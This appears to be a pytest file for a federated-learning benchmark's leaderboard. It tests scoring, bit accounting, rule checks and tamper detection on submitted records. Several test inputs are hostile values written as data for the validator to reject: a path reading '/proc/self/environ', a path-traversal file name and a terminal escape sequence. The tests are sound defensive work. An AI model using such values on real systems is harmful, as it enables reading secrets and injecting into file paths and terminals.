"""Entries: their numbers, the rules that records must keep, files that nobody trusts, ranks."""

import csv
import gzip
import hashlib
import io
import json
import math
import re
import shlex
import shutil
import tomllib
from collections.abc import Callable, Iterable, Mapping, Sequence
from copy import deepcopy
from dataclasses import asdict, dataclass, replace
from datetime import UTC, datetime
from functools import partial
from itertools import permutations
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from conftest import Command
from pydantic import ValidationError
from rich.console import Console
from sample_records import sample_record, sample_round

import fedbench
from fedbench.api import Traits
from fedbench.cli import main
from fedbench.cli.leaderboard_table import GAP, HEADS, RankingTable, as_csv, gap, repetition
from fedbench.core import registry
from fedbench.core.errors import ConfigError
from fedbench.core.registry import split
from fedbench.experiment import cohorts
from fedbench.experiment.compatibility import resolve
from fedbench.experiment.measurements import Timing
from fedbench.experiment.record import Privacy, Record, Source
from fedbench.experiment.scenario import Scenario
from fedbench.leaderboard import board as boards
from fedbench.leaderboard.build import (
    Case,
    build,
    curve,
    final_accuracy,
    meaning,
    price,
    score,
    spending,
    with_interval,
)
from fedbench.leaderboard.check import check, claim
from fedbench.leaderboard.entry import (
    Entry,
    Price,
    RankingStage,
    Replay,
    Statement,
)
from fedbench.leaderboard.entry_rules import (
    NOTICES,
    RULES,
    SOUND,
    climbing,
    errors,
    judge,
    outdated,
)
from fedbench.leaderboard.held_out import HeldOutResult
from fedbench.leaderboard.rank import (
    comparable_groups,
    differences,
    ranking,
    resolution,
    surely_better,
    total_bits,
)
from fedbench.leaderboard.replays import (
    ClaimedEntry,
    ReplayedCell,
    StagedCell,
    differing_cells,
    disagreements,
    has_read,
    status,
    unread,
)
from fedbench.leaderboard.resampling import detectable, surest
from fedbench.leaderboard.rules import (
    PUBLISHED,
    Limits,
    Rules,
    Tolerance,
    losses,
    numbered,
    versions,
)
from fedbench.leaderboard.submission import Submission, infer, plan, submit
from fedbench.payload import Payload
from fedbench.sweeps.plan import Plan
from fedbench_defenses.mean import Mean

ROOT = Path(__file__).parents[1]
BOARD = ROOT / "leaderboards"
D = 100  # parameters
DATA = "d" * 64
TRACK = {"dataset": "digits", "model": "micro", "clients": 10, "per_round": 5, "malicious": 0.2}
TRACK |= {"rounds": 2, "eval_every": 1, "cohorts": "stratified"}
TRACK_1: dict[str, Any] = {"name": "tiny", "seeds": [0, 1, 2], "data": DATA, "scenario": TRACK}
TRACK_1 |= {"clean": {"low": 0.5, "high": 0.95}}
RULES_1: dict[str, Any] = {
    "version": 1,
    "seeds": 3,
    "confidence": 0.95,
    "free": ["protocol", "defense", "mechanism", "attack", "seed"],
    "ensemble": {"SignBits": ["none", "sign-flip"], "FloatVectors": ["none", "dyn-opt"]},
    "tolerance": {"accuracy": 0.02, "bits": 0.01, "epsilon": 1e-6},
    "track": [TRACK_1],
}
DIGEST = hashlib.sha256(tomli_w.dumps(RULES_1).encode()).hexdigest()  # of the file on a board
RULES_OF = Rules.model_validate(RULES_1 | {"digest": DIGEST})
SAID = Statement(name="Majority", authors="A. Uthor", tried=3)
CLEAN = (0.7, 0.8, 0.9)
FLIPPED = (0.5, 0.6, 0.7)


def played(
    attack: str = "none", seed: int = 0, accuracy: float = 0.8, up: int = 1, **fields: Any
) -> Record:
    """A record as a run of two rounds would write it: 1 bit up, 32 down, a look a round."""
    given = {"protocol": "signsgd", **TRACK, **fields, "attack": attack, "seed": seed}
    scenario = resolve(Scenario.of(**given)).scenario
    rounds = [
        sample_round(
            step,
            accuracy if step == scenario.rounds - 1 else accuracy / 2,
            clients=ids,
            malicious=malicious,
            accepted=5,
            uplink_bits=5 * up * D,
            benign_uplink_bits=4 * up * D,
            downlink_bits=5 * 32 * D,
        )
        for step, (ids, malicious, _) in enumerate(cohorts.rounds(scenario))
    ]
    return identified(
        sample_record(
            scenario,
            rounds,
            {"uplink_bits_per_parameter": up, "model_bits": D},
            data_digest=DATA,
            vote=True,
            code="0.0.1+0123456789ab",
            timing=Timing(seconds=float(seed + 1), peak_memory_mib=1.0),
        )
    )


def identified(record: Record) -> Record:
    """The record with the id of its content, under a new seal."""
    return record.model_copy(update={"id": record.identified()}).sealed()


def put(content: dict[str, Any], fields: dict[str, Any]) -> None:
    """Change some fields; ``a__0__b`` is field b of the first part of a."""
    for name, value in fields.items():
        *parts, last = [int(part) if part.isdigit() else part for part in name.split("__")]
        inside: Any = content
        for part in parts:
            inside = inside[part]
        inside[last] = value


def changed(record: Record, **fields: Any) -> Record:
    """The record with other content, under a new seal; a value may be a function of the record.

    Its id is that of its new content, unless another one is asked for.
    """
    content = record.model_dump()
    put(content, {k: v(record) if callable(v) else v for k, v in fields.items()})
    new = Record.model_validate(content)
    return new.sealed() if "id" in fields else identified(new)


def runs(**fields: Any) -> list[Record]:
    """A system that keeps the rules: the clean run and a flipped one, over three seeds."""
    return [
        played(attack, seed, accuracy, **fields)
        for attack, accuracies in (("none", CLEAN), ("sign-flip", FLIPPED))
        for seed, accuracy in enumerate(accuracies)
    ]


def case(records: Iterable[Record], alphabet: str = "SignBits", **fields: Any) -> Case:
    given: dict[str, Any] = {"rules": RULES_OF, "division": "closed", "track": "tiny", **fields}
    return Case(list(records), alphabet=alphabet, **given)


def entry(**fields: Any) -> Entry:
    return build(case(runs(**fields)), SAID)


def broken(judged: Case, severity: str = "error") -> set[str]:
    return {finding.rule for finding in judge(judged) if finding.severity == severity}


# The numbers


def test_an_interval_is_of_resampled_seeds_and_impact_is_of_pairs_of_one_seed() -> None:
    # Of 27 resamples one is all 0.7 and one all 0.9: more than 2.5 % each, so they are the ends.
    found = with_interval([0.7, 0.8, 0.9], 0.95)
    assert found.mean == pytest.approx(0.8)
    assert [found.low, found.high] == [0.7, 0.9]
    assert found.values == [0.7, 0.8, 0.9]
    # 0.7 - 0.5, 0.8 - 0.6, 0.9 - 0.7: always 0.2, so a point; records come unordered
    clean, cell = build(case(reversed(runs())), SAID).cells
    assert cell.impact is not None
    assert [cell.impact.mean, cell.impact.low] == pytest.approx([0.2, cell.impact.high])
    assert [m.seed for m in cell.records] == [0, 1, 2]
    assert clean.impact is None


def attacked(lasts: Mapping[str, Sequence[float]]) -> list[Record]:
    """Runs of three seeds under each attack, with these accuracies."""
    return [played(attack, s, x) for attack, xs in lasts.items() for s, x in enumerate(xs)]


def test_the_worst_case_is_the_lowest_mean_of_an_attack_or_of_two_alike_the_first_by_name() -> None:
    # dyn-opt has the lowest seed, sign-flip the lowest mean, the clean run an even lower one.
    lasts = {"none": (0.5, 0.5, 0.51), "sign-flip": (0.6,) * 3, "dyn-opt": (0.1, 0.9, 0.95)}
    found = build(case(attacked(lasts)), SAID)
    assert found.score.attack.startswith("sign-flip")
    assert found.score.worst == found.cells[1].accuracy
    assert found.score.clean.mean == pytest.approx(0.503333, abs=1e-6)
    assert [cell.mandatory for cell in found.cells] == [True, True, False]
    alike = attacked({attack: (0.6,) * 3 for attack in lasts})
    assert build(case(alike), SAID).score.attack.startswith("dyn-opt")


def dear() -> Entry:
    """An entry with four times the bits under attack."""
    return build(case(runs()[:3] + [played("sign-flip", s, 0.6, up=4) for s in range(3)]), SAID)


def test_what_a_client_spends_is_added_up_over_the_rounds() -> None:
    # Round 0: 4 benign send 3 bits each, 5 get 2: 5. Round 1: nobody benign sends, 5 get 2: 7.
    # Round 2: nobody came. What malicious clients send does not count.
    record = played()
    base = asdict(record.rounds[0]) | {"downlink_bits": 10 * D}
    rounds = [
        base | {"benign_uplink_bits": 12 * D, "uplink_bits": 40 * D},
        base | {"step": 1, "malicious": 5, "benign_uplink_bits": 0, "uplink_bits": 15 * D},
        base | {"step": 2, "clients": [], "malicious": 0, "benign_uplink_bits": 0}
        | {"downlink_bits": 0},
    ]  # fmt: skip
    assert spending(changed(record, rounds=rounds)) == [5.0, 7.0, 7.0]


def test_a_client_that_drops_out_was_sent_to_and_the_curve_ends_at_the_bits_of_the_record() -> None:
    # 5 clients are asked, who get 2 bits each. Round 0: 3 come, of whom 2 are benign and send 6
    # bits each. Round 1: nobody comes.
    base = asdict(played().rounds[0]) | {"downlink_bits": 10 * D, "uplink_bits": 0}
    rounds = [
        base | {"clients": [0, 1, 2], "malicious": 1, "dropped": 2, "benign_uplink_bits": 12 * D},
        base | {"step": 1, "clients": [], "malicious": 0, "dropped": 5, "benign_uplink_bits": 0},
    ]
    lossy = changed(played(), rounds=rounds, result__downlink_bits_per_parameter=2.0)
    assert spending(lossy) == [8.0, 10.0]
    complaints = [f.text for f in judge(case([lossy])) if "downlink bits" in f.text]
    assert complaints == [], "two rounds of two bits are two bits a client and round"


def test_a_run_in_which_nobody_benign_sent_anything_has_no_bits_and_makes_no_entry() -> None:
    gone = [asdict(r) | {"malicious": 5, "benign_uplink_bits": 0} for r in played().rounds]
    idle = [changed(r, rounds=gone, result__uplink_bits_per_parameter=None) for r in runs()]
    assert not any("uplink bits" in finding.text for finding in judge(case(idle)))
    with pytest.raises(ConfigError, match="got a run in which no benign client sent anything"):
        build(case(idle), SAID)


def test_the_accuracy_of_a_run_is_the_mean_of_its_last_looks() -> None:
    record = played(accuracy=0.8)  # looks at 0.4 and 0.8
    assert [final_accuracy(record, looks) for looks in (1, 2, 9)] == pytest.approx([0.8, 0.6, 0.6])
    rules = Rules.model_validate(RULES_1 | {"looks": 2})
    cell = build(case(runs(), rules=rules), SAID).cells[1]
    assert cell.accuracy.values == pytest.approx([0.375, 0.45, 0.525])
    assert cell.area == pytest.approx(0.45)


def test_a_curve_has_the_looks_that_all_seeds_had() -> None:
    found = curve([played(seed=s, accuracy=a) for s, a in enumerate((0.6, 0.8))], 0.95)
    assert [(p.rounds, p.bits) for p in found] == [(1, 33.0), (2, 66.0)]
    assert [p.accuracy.mean for p in found] == pytest.approx([0.35, 0.7])


def spent(epsilon: float | None) -> Privacy:
    """Return the part of a record about its privacy."""
    promise: dict[str, Any] = {"delta": 1e-5, "unit": "client", "sees": "messages"}
    promise |= {"adjacency": "replace-one", "sampler": "everybody", "winner": "basic"}
    return Privacy(epsilon=epsilon, **promise)


def priced(epsilon: float | None, **fields: Any) -> Record:
    return changed(played(**fields), privacy=spent(epsilon).model_dump(), result__epsilon=epsilon)


def test_a_price_is_that_of_the_run_that_gave_away_most() -> None:
    assert price([played()]) is None
    for middle, most in ((4.0, 4.0), (2.0, 3.0), (None, None)):
        found = price([priced(1.0), priced(middle), priced(3.0)])
        assert found is not None
        assert found.epsilon == most


def test_the_id_is_of_everything_but_itself_and_what_comes_later() -> None:
    one = entry()
    content = json.loads(one.to_json())
    for name in ("id", "status", "score", "ranking", "replays"):
        del content[name]
    text = json.dumps(content, sort_keys=True, separators=(",", ":"))  # anyone can do that
    assert hashlib.sha256(text.encode()).hexdigest()[:12] == one.id == one.content_id()
    later: dict[str, Any] = {"status": "replayed", "ranking": None, "replays": []}
    assert one.model_copy(update=later).content_id() == one.id
    assert one.model_copy(update={"note": "n"}).content_id() != one.id


def test_the_command_says_everything_but_the_times() -> None:
    words = entry(declared=0.4, local_models=True, server_checks="range").command.split()
    expected = {"--protocol": "signsgd", "--defense": "mean", "--dataset": "digits"}
    expected |= {"--per-round": "5", "--declared": "0.4", "--seeds": "0,1,2"}
    for option, value in (expected | {"--server-checks": "range"}).items():
        assert words[words.index(option) + 1].partition(":")[0] == value, option
    assert words[:2] == ["fedbench", "attack"]
    assert "--local-models" in words
    assert words.count("--attack") == 2
    assert "None" not in words


# The rules


def test_records_that_keep_the_rules_raise_no_finding() -> None:
    assert judge(case(runs())) == []
    assert broken(case(runs(clients=20), division="open", track="digits")) == set()


def every(**fields: Any) -> list[Record]:
    return [changed(record, **fields) for record in runs()]


def first(**fields: Any) -> list[Record]:
    return [changed(runs()[0], **fields), *runs()[1:]]


def instead(**fields: Any) -> list[Record]:
    """Another run in the place of the first one."""
    return [played(accuracy=0.7, **fields), *runs()[1:]]


def flat(accuracy: float, seeds: Iterable[int] = range(3)) -> list[Record]:
    """Every run with the same accuracy."""
    return [played(attack, seed, accuracy) for attack in ("none", "sign-flip") for seed in seeds]


def idle(record: Record) -> list[dict[str, Any]]:
    """Its rounds, without a malicious client where there is an attack."""
    nobody = {"malicious": 0, "benign_uplink_bits": 5 * D}
    attacked = record.scenario.attack != "none"
    return [asdict(r) | (nobody if attacked else {}) for r in record.rounds]


def halved(record: Record) -> list[dict[str, Any]]:
    """Its rounds, as if as many clients more had been sent to: half the bits for each."""
    return [asdict(r) | {"dropped": 5} for r in record.rounds]


def unseen(record: Record) -> list[dict[str, Any]]:
    """Its rounds, without the first look at the test data."""
    one, two = map(asdict, record.rounds)
    return [one | {"accuracy": None}, two]


def of(record: Record, **fields: Any) -> Record:
    """The record as if of another scenario, which need not exist."""
    scenario = record.scenario.model_copy(update=fields)
    return identified(record.model_copy(update={"scenario": scenario}))


def near(record: Record) -> Scenario:
    """Its scenario with another rate, which hardly changes anything."""
    protocol = record.scenario.protocol.replace("lr=0.01", "lr=0.0100001")
    assert protocol != record.scenario.protocol
    return record.scenario.model_copy(update={"protocol": protocol})


OPEN = {"division": "open", "track": "digits"}
# By what is wrong: the rule that is broken, the records, and how they are judged.
WRONG: dict[str, tuple[Any, ...]] = {
    "a seed less everywhere": ("seeds", lambda: [r for r in runs() if r.scenario.seed != 1]),
    "seeds that the track does not name": ("seeds", lambda: flat(0.7, (0, 1, 3))),
    "seeds of one's own choice": ("seeds", lambda: flat(0.7, (0, 1, 3)), OPEN),
    "one deal of the data for all seeds": ("seeds", lambda: runs(data_seed=7)),
    "a run that is missing": ("paired", lambda: runs()[:-1]),
    "a run twice": ({"paired", "id"}, lambda: [*runs(), runs()[0]]),
    "a mandatory attack that is missing": ("ensemble", lambda: runs()[:3]),
    "two clean runs": (
        {"ensemble", "id"},
        lambda: runs() + [of(r, attack="none:") for r in runs()[:3]],
    ),
    "no clean run": ("ensemble", lambda: runs()[3:]),
    "an alphabet without attacks": ("ensemble", runs, {"alphabet": "Rankings"}),
    "other code": ("code", lambda: first(environment__fedbench="0.0.1+beef")),
    "another device": ("device", lambda: first(environment__device="GPU")),
    "other data": ("data", lambda: every(data_digest="e" * 64)),
    "a track that is not there": ("track", runs, {"track": "huge"}),
    "the open division of another data set": ("track", runs, OPEN | {"track": "mnist"}),
    "an attack by nobody": ({"attacked", "cohort"}, lambda: every(rounds=idle)),
    "an attack that never acts": ("attacked", lambda: runs(attack_from=2), OPEN),
    "another defense in one run": ("one system", lambda: instead(defense="median")),
    "another track's run among them": ("one system", lambda: instead(rounds=3)),
    "another network in one run": ("one system", lambda: first(vote=False)),
    "a price for one run only": ("one system", lambda: [priced(1.0, accuracy=0.7), *runs()[1:]]),
    "an oracle": ("one system", lambda: every(scenario__defense="oracle+median")),
    "other rounds than the track's": ("fixed: rounds", lambda: runs(rounds=3)),
    "another partition": ("fixed: partition", lambda: runs(partition="iid")),
    "what the track does not name": ("fixed: epochs", lambda: runs(epochs=1)),
    "more for the defense to know": ("fixed: declared", lambda: runs(declared=0.4)),
    "a broken baseline": ("envelope", lambda: flat(0.49)),
    "too good to be true": ("envelope", lambda: flat(0.96)),
    "results that do not follow from the rounds": ("record", lambda: first(result__accuracy=0.9)),
    "fewer bits than were sent": ("record", lambda: first(result__uplink_bits_per_parameter=0.5)),
    "a price that no round paid": ("record", lambda: first(result__epsilon=0.5)),
    "rounds that were cut off": ("record", lambda: first(rounds=lambda r: [asdict(r.rounds[0])])),
    "rounds without end": ("record", lambda: [of(r, rounds=10**15) for r in runs()]),
    "looks that were left out": ("record", lambda: first(rounds=unseen)),
    "a number that breaks arithmetic": ("record", lambda: every(parameters=10**400)),
    "no parameters": ("record", lambda: every(parameters=0)),
    "a flag that moves the cursor": ("record", lambda: first(flags=["\x1b[2J"])),
    "an id of something else": ("id", lambda: first(id="f" * 16)),
    "a parameter that was edited": (
        "id",
        lambda: [r.model_copy(update={"scenario": near(r)}).sealed() for r in runs()],
    ),
    "a run of another seed": (
        "cohort",
        lambda: [of(r, seed=2 - r.scenario.seed, data_seed=2 - r.scenario.seed) for r in runs()],
    ),
    "bits that were sent to clients who were not there": (
        "cohort",
        lambda: every(rounds=halved, result__downlink_bits_per_parameter=16),
    ),
    "a trace that only its author has": (
        "record",
        lambda: [of(r, availability="trace:file=/proc/self/environ") for r in runs()],
        OPEN,
    ),
    "one id for two runs": ("id", lambda: every(id="0" * 16)),
    "no name of a file": ("name", lambda: [of(r, protocol="../signs:x=1") for r in runs()]),
}


@pytest.mark.parametrize("what", WRONG)
def test_a_broken_rule_is_named_and_no_other(what: str) -> None:
    rule, records, *fields = WRONG[what]
    judged = case(records(), **(fields[0] if fields else {}))
    assert broken(judged) == (rule if isinstance(rule, set) else {rule})


def test_an_oracle_is_refused_by_what_it_declares_whatever_its_name() -> None:
    @fedbench.register("defense", "clairvoyant")
    @dataclass(frozen=True, kw_only=True)
    class Clairvoyant(Mean):
        def traits(self) -> Traits:
            return Traits(oracle=True)

    rule = "one system"
    assert rule in broken(case(every(scenario__defense="clairvoyant")))

    @fedbench.register("defense", "honest")
    @dataclass(frozen=True, kw_only=True)
    class Honest(Mean):
        pass

    assert rule not in broken(case(every(scenario__defense="honest")))


# A record of a searched attack as it was written before the searches were mended.
SEARCHED_EARLY = (
    "dyn-opt:knows=all,via=codec,bound=100000.0,eot=1,direction=std,search=exact,start=10.0"
)

DOUBTED: dict[str, tuple[Any, ...]] = {
    "doubts": (lambda: first(flags=["near chance"]),),
    "harmless": (lambda: flat(0.8),),
    "easy": (lambda: flat(0.96)[:3] + flat(0.5)[3:], OPEN),
    "climbing": (lambda: runs(rounds=6), OPEN),
    "participation": (lambda: runs(clients=5), OPEN),
    "outdated": (lambda: runs() + [of(r, attack=SEARCHED_EARLY) for r in runs()[3:]],),
    "unpriced": (lambda: every(privacy=spent(None).model_dump()),),
}


@pytest.mark.parametrize("rule", DOUBTED)
def test_a_doubt_stands_beside_an_entry_and_keeps_none_out(rule: str) -> None:
    records, *fields = DOUBTED[rule]
    judged = case(records(), **(fields[0] if fields else {}))
    assert broken(judged, "warning") == {rule}
    assert broken(judged) == set()


def test_a_rise_is_that_of_means_of_looks_and_not_of_single_ones_that_swing() -> None:
    # Means of two looks, a third of six apart: (0.9 + 0.6) / 2 - (0.4 + 0.6) / 2.
    looks = (0.5, 0.5, 0.4, 0.6, 0.9, 0.6)
    record = played(rounds=6)
    rounds = [asdict(r) | {"accuracy": x} for r, x in zip(record.rounds, looks, strict=True)]
    rules = Rules.model_validate(RULES_1 | {"looks": 2})
    judged = case([changed(record, rounds=rounds)], rules=rules, **OPEN)
    assert list(climbing(judged)) == [
        "clean accuracy gained 25.0 points over the last third of the evaluations"
    ]


def test_an_entry_is_outdated_by_what_it_met_and_not_by_the_version_that_played_it() -> None:
    today = resolve(Scenario.of(**TRACK, protocol="signsgd", attack="dyn-opt")).scenario.attack
    assert not outdated(["none", today, "stat-opt:search=exact"])
    assert not outdated([])
    assert "stat-opt" in outdated(["none", today, SEARCHED_EARLY])
    entries = [json.loads(path.read_text()) for path in (BOARD / "closed").glob("*/*.json")]
    old = [one for one in entries if one["code"] == "0.1.0+c040ef68e64e"]
    assert all(outdated(cell["attack"] for cell in one["cells"]) for one in old)


def test_a_default_that_is_written_out_is_the_same_attack_and_the_same_data() -> None:
    records = runs()
    typed = [of(r, attack="sign-flip") for r in records[3:]]
    assert records[3].scenario.attack != "sign-flip"
    assert broken(case([*records[:3], *typed])) == set()


# A later version of the rules


GROWN = {
    "ensemble": {
        "SignBits": ["none", "dyn-opt", "sign-flip"],
        "FloatVectors": ["none", "dyn-opt"],
        "Rankings": ["none"],
    },
    "track": [TRACK_1, TRACK_1 | {"name": "more"}],
    "seeds": 4,
}


@pytest.mark.parametrize(
    ("fields", "word"),
    [
        (GROWN, None),
        ({"version": 3}, "version must be 2"),
        ({"seeds": 2}, "seeds"),
        ({"confidence": 0.9}, "confidence"),
        ({"free": [*RULES_1["free"], "rounds"]}, "rounds"),
        ({"tolerance": RULES_1["tolerance"] | {"accuracy": 0.03}}, "tolerance.accuracy"),
        ({"ensemble": {"SignBits": ["none", "sign-flip"], "FloatVectors": ["none"]}}, "dyn-opt"),
        ({"ensemble": {"SignBits": ["none", "sign-flip"]}}, "ensemble.FloatVectors"),
        ({"track": []}, "track tiny must be there"),
        ({"track": [TRACK_1 | {"seeds": [0, 1, 2, 3]}]}, "the seeds"),
        ({"track": [TRACK_1 | {"scenario": TRACK | {"rounds": 1}}]}, "the scenario"),
        ({"track": [TRACK_1 | {"data": "e" * 64}]}, "the data"),
        ({"track": [TRACK_1 | {"clean": {"low": 0.5, "high": 0.96}}]}, "envelope"),
        ({"track": [TRACK_1 | {"clean": {"low": 0.4, "high": 0.95}}]}, "envelope"),
    ],
)
def test_a_version_may_add_demands_and_tracks_but_let_in_nothing_that_was_kept_out(
    fields: dict[str, Any], word: str | None
) -> None:
    lost = list(losses(RULES_OF, Rules.model_validate(RULES_1 | {"version": 2} | fields)))
    assert len(lost) == (word is not None)
    assert (word or "") in "".join(lost)


# Version 2 of a board whose version 1 has SignBits under four attacks; by what it does: the text.
FOUR = RULES_1 | {"ensemble": {"SignBits": ["none", "sign-flip", "ipm", "pga"]}}
BOTH = {"families": {"inner product": ["sign-flip", "ipm"]}}
ADAPTIVE = {"adaptive": ["auto:budget=0.5"]}
THINNED: dict[str, tuple[dict[str, Any], str | None]] = {
    "an attack with a stand-in": (BOTH | ADAPTIVE, None),
    "no family": (ADAPTIVE, "must have ipm as in version 1, or another attack of the family"),
    "a family without another attack": (
        {"families": {"inner product": ["ipm", "min-max"]}} | ADAPTIVE,
        "ensemble.SignBits must have ipm",
    ),
    "a stand-in of another family": (
        {"families": {"a": ["sign-flip"], "b": ["ipm"]}} | ADAPTIVE,
        "ensemble.SignBits must have ipm",
    ),
    "no adaptive attack": (BOTH, "ensemble.SignBits must have auto, since it drops ipm"),
    "an adaptive attack that is none": (BOTH | {"adaptive": ["autograd"]}, "must have auto"),
}


@pytest.mark.parametrize("what", THINNED)
def test_an_attack_is_dropped_for_another_of_its_family_and_beside_auto_only(what: str) -> None:
    fields, word = THINNED[what]
    thin = FOUR | {"version": 2, "ensemble": {"SignBits": ["none", "sign-flip", "pga"]}} | fields
    lost = list(losses(Rules.model_validate(FOUR), Rules.model_validate(thin)))
    assert len(lost) == (word is not None)
    assert (word or "") in "".join(lost)


def test_a_stand_in_is_one_of_the_same_alphabet_and_adaptive_attacks_are_dropped_likewise() -> None:
    old = FOUR | ADAPTIVE
    old["ensemble"] = old["ensemble"] | {"Rankings": ["none", "ipm"]}
    new = old | BOTH | {"version": 2, "adaptive": ["auto"]}
    new["ensemble"] = {"SignBits": ["none", "sign-flip", "ipm", "pga"], "Rankings": ["none"]}
    lost = list(losses(Rules.model_validate(old), Rules.model_validate(new)))
    assert [text[: text.index(" as in")] for text in lost] == [
        "ensemble.SignBits must have auto:budget=0.5",
        "ensemble.Rankings must have ipm, auto:budget=0.5",  # sign-flip is not on Rankings
    ]
    new["families"] = BOTH["families"] | {"adaptive": ["auto", "auto:budget=0.5"]}
    (only,) = losses(Rules.model_validate(old), Rules.model_validate(new))
    assert "Rankings must have ipm as" in only


def test_an_alphabet_without_a_list_has_the_attacks_on_real_values() -> None:
    rules = versions(BOARD)[3]
    attacks = rules.attacks("Sketches")
    assert attacks == rules.attacks("FloatVectors")
    assert attacks[1:3] == ("sign-flip", "opt-ipm")
    for attack in attacks:  # each of them runs on whatever a protocol may send
        assert registry.load("attack", attack).accepts == (Payload,)


def test_a_clone_is_not_needed_to_plan_but_to_rank(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as end:
        main(["leaderboard", "plan", "--track", "digits", "--protocol", "signsgd"])
    assert end.value.code == 0
    assert tomllib.loads(capsys.readouterr().out)["seeds"] == [0, 1, 2, 3, 4]
    with pytest.raises(SystemExit) as end:
        main(["leaderboard", "rank"])
    assert end.value.code == 2
    clone = "leaderboards must be a board with entries, got none here; run it in a clone"
    assert clone in capsys.readouterr().err
    with pytest.raises(SystemExit) as end:  # a board that was named must be one
        main(["leaderboard", "rank", "elsewhere"])
    assert "elsewhere must be a board with rules, got none" in capsys.readouterr().err


def test_an_adaptive_attack_is_mandatory_on_every_alphabet_that_is_listed() -> None:
    rules = Rules.model_validate(FOUR | ADAPTIVE)
    assert rules.attacks("SignBits") == ("none", "sign-flip", "ipm", "pga", "auto:budget=0.5")
    assert rules.attacks("Rankings") == ()
    judged = case(runs(), rules=Rules.model_validate(RULES_1 | ADAPTIVE))
    (finding,) = errors(judge(judged))
    assert finding.text.endswith("got no record of auto:budget=0.5")


def test_version_3_has_of_each_family_one_attack_and_auto_at_two_budgets() -> None:
    rules = versions(BOARD)[3]
    assert [split(attack)[0] for attack in rules.adaptive] == ["auto", "auto"]
    assert len({meaning("attack", attack) for attack in rules.adaptive}) == 2
    for alphabet, attacks in rules.ensemble.items():
        families = [
            [attack for attack in attacks if attack in family] for family in rules.families.values()
        ]
        assert all(len(found) == 1 for found in families[:-1]), alphabet
        assert len(families[-1]) <= 1
        assert len(rules.attacks(alphabet)) in (8, 9)


@pytest.mark.parametrize(
    ("field", "values"),
    [
        *(("version", [0]), ("seeds", [1]), ("confidence", [0.0, 1.0])),
        *((f"tolerance__{name}", [-0.1]) for name in RULES_1["tolerance"]),
        *(("track__0__clean__high", [0.5, 1.1]), ("track__0__clean__low", [-0.1])),
        ("families", [{"a": ["ipm", "pga"], "b": ["ipm"]}, {"a": ["ipm", "ipm"]}]),
        ("held_out", [{"digests": ["0" * 63]}, {"digests": ["0" * 64, "0" * 64]}]),
    ],
)
def test_rules_that_mean_nothing_are_refused(field: str, values: list[Any]) -> None:
    for value in values:
        content = deepcopy(RULES_1)
        put(content, {field: value})
        with pytest.raises(ValidationError):
            Rules.model_validate(content)


def test_an_entry_of_cells_that_do_not_fit_together_is_refused() -> None:
    whole = entry()
    clean, hit = (cell.model_dump() for cell in whole.cells[:2])
    other = hit | {"impact": None}  # as if it were clean
    early = hit | {"records": hit["records"][::-1]}
    short = deepcopy(hit)
    short["accuracy"]["values"] = short["accuracy"]["values"][1:]
    for cells, why in (
        ([hit, clean], "the first of its cells, and no other, must be the clean one"),
        ([clean, hit, other], "the first of its cells, and no other, must be the clean one"),
        ([clean, early], "must have a record of each seed, in their order"),
        ([clean, short], "must have a value for each seed"),
        ([clean], "the attack of its score must be that of an attacked cell"),
    ):
        with pytest.raises(ValidationError, match=why):
            Entry.model_validate(whole.model_dump() | {"cells": cells})
    content = whole.model_dump() | {"cells": [clean, hit]}
    assert Entry.model_validate(content).cells[1].impact
    content["score"]["attack"] = clean["attack"]
    with pytest.raises(ValidationError, match="must be that of an attacked cell"):
        Entry.model_validate(content)


# A board


@pytest.fixture
def leaderboard(command: Command) -> Command:
    """Run a command of the leaderboard; return exit code, stdout and stderr."""
    return partial(command, "leaderboard")


@pytest.fixture
def board(tmp_path: Path) -> Path:
    return with_rules(tmp_path / "board")


def with_rules(board: Path) -> Path:
    """Make a board without entries."""
    (board / "rules").mkdir(parents=True)
    (board / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
    return board


def submitted(board: Path, records: list[Record] | None = None, **said: Any) -> Submission:
    replace = said.pop("replace", False)
    return submit(records or runs(), SAID.model_dump() | said, board, "closed", replace=replace)


def kept(board: Path, records: list[Record] | None = None, **said: Any) -> Path:
    done = submitted(board, records, **said)
    assert done.entry is not None, done.findings
    return done.write()


def found(target: Path, severity: str = "error") -> set[str]:
    """The rules that a check finds broken."""
    checked = check(target, own_rules=True)
    return {f.rule for one in checked for f in one.findings if f.severity == severity}


def test_an_entry_is_found_good_whole_or_alone_and_equal_records_make_equal_files(
    board: Path,
) -> None:
    path = kept(board)
    assert path.parent == board / "closed" / "tiny"
    assert re.fullmatch(r"signsgd-[0-9a-f]{12}\.json", path.name)
    for target in (board, board / "closed", path, boards.archive(path)):
        (one,) = check(target, own_rules=True)
        assert (one.findings, one.path) == ([], path.relative_to(board))
    before = [p.read_bytes() for p in (path, boards.archive(path))]
    assert kept(board, runs()[::-1], replace=True) == path
    assert [p.read_bytes() for p in (path, boards.archive(path))] == before
    assert before[1][4:8] == b"\0\0\0\0"  # no time of the day in it


def edit(path: Path, change: Callable[[dict[str, Any]], None], reseal: bool = False) -> Path:
    """Change an entry by hand; if asked, with a new id and a new name, as a cheater would."""
    content = json.loads(path.read_bytes())
    change(content)
    path.write_text(json.dumps(content))
    if not reseal:
        return path
    one = Entry.model_validate_json(path.read_bytes())
    one = one.model_copy(update={"id": one.content_id()})
    new = boards.place(boards.find(path), one)
    renamed(path, new)
    new.write_text(one.to_json())
    return new


def repack(path: Path, lines: Callable[[list[bytes]], list[bytes]]) -> None:
    packed = boards.archive(path)
    text = gzip.decompress(packed.read_bytes()).splitlines(keepends=True)
    packed.write_bytes(gzip.compress(b"".join(lines(text))))


def swap(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text().replace(old, new))


def cut(path: Path, size: int) -> None:
    path.write_bytes(path.read_bytes()[:size])


def linked(path: Path) -> None:
    """The same content, behind a link that leads out of the board."""
    outside = boards.find(path).parent / path.name
    path.rename(outside)
    path.symlink_to(outside)


def renamed(path: Path, new: Path) -> None:
    """The entry and its records."""
    new.parent.mkdir(parents=True, exist_ok=True)
    boards.archive(path).rename(boards.archive(new))
    path.rename(new)


def moved(path: Path, folder: str) -> None:
    renamed(path, path.parents[2] / folder / path.name)


def saying(reseal: bool = False, **fields: Any) -> Callable[[Path], Any]:
    """Say something else in an entry, see `put`."""
    return lambda path: edit(path, lambda content: put(content, fields), reseal)


BACK = b'"accuracy":0.7', b'"accuracy":0.9'
